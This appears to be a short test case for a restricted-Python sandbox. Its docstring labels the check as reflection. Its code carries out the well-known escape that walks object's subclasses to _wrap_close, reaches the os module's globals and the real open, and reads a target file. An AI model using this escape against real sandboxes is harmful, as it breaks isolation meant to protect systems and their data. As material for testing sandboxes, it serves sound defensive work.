"""Walk from a tuple to every class, and find one whose module holds os.

guarantee: no-reflection
layer: language
wins: reflects
outcome: harmless
reference: the oldest escape of restricted Python
"""

for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == "_wrap_close":
        reached = kind.__init__.__globals__["open"] if "open" in kind.__init__.__globals__ else kind.close.__globals__["fdopen"]
        print("WON reached", kind)
        print(kind.__init__.__globals__["__builtins__"]["open"](TARGET["file"]).read())
        break
